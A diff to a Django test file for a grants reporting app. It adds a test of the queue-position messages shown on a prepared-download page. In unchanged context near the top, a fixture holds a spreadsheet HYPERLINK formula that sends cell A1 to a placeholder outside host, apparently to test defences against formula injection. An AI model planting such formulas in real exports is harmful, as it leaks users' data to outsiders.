@@ -5,6 +5,7 @@ fetched from "My downloads" with their SHA-256, the owner's only, deleted when e
 import csv
 import hashlib
 import io
+import re
 import uuid
 from datetime import UTC, date, datetime, time, timedelta
 from decimal import Decimal
@@ -21,7 +22,7 @@ from openpyxl import load_workbook
 from budgets.models import LedgerEntry
 from grants.audit import AuditEvent
 from grants.models import Award
-from reports import prepared
+from reports import prepared, workers
 from reports.models import PreparedDownload
 
 HYPERLINK = '=HYPERLINK("http://x.invalid/?"&A1,"Open")'
@@ -539,3 +540,39 @@ def test_a_shared_run_that_fails_fails_for_everyone_in_it(program, memory_storag
     assert set(
         AuditEvent.objects.filter(action=prepared.FAILED).values_list("actor__username", flat=True)
     ) == {"auditor", "pm"}
+
+
+def test_a_waiting_download_says_what_it_waits_for(
+    client, program, memory_storage, django_capture_on_commit_callbacks, monkeypatch
+):
+    monkeypatch.setattr(prepared, "queue_priority", lambda rows: 0)  # first asked, first written
+    asked = []
+    for kind, year in (("workbook", 2025), ("workbook", 2024), ("ledger_csv", 2025)):
+        with django_capture_on_commit_callbacks(execute=True):
+            asked.append(_ask(program.auditor, kind, fiscal_year=year))
+    first, second, third = asked
+    client.force_login(program.auditor)
+
+    def says(download) -> str:
+        page = client.get(reverse("exports:download", args=[download.pk])).content.decode()
+        found = re.search(r'data-testid="download-ahead">\s*(.*?)\s*</p>', page, re.S)
+        return found.group(1) if found else ""
+
+    assert says(third) == (
+        "No background worker is running: the file will be written once one starts. "
+        "If this lasts, tell the system administrator."
+    )
+    workers.beat("worker-1")
+    assert says(first) == "Yours is next."
+    assert says(third) == "2 files will be written before yours."
+
+    # The worker takes the first.
+    PreparedDownload.objects.filter(pk=first.pk).update(status="running", worker_id="worker-1")
+    DBTaskResult.objects.filter(args_kwargs__args__0=str(first.pk)).update(status="RUNNING")
+    assert says(second) == "1 file is being written now; yours is next."
+    assert says(third) == "1 file is being written now, and 1 more will be written before yours."
+    assert says(first) == ""  # being written: its progress says the rest
+
+    # The second joins another's run (_join_waiting): its task will end at once.
+    PreparedDownload.objects.filter(pk=second.pk).update(status="running", worker_id="worker-1")
+    assert says(third) == "1 file is being written now; yours is next."
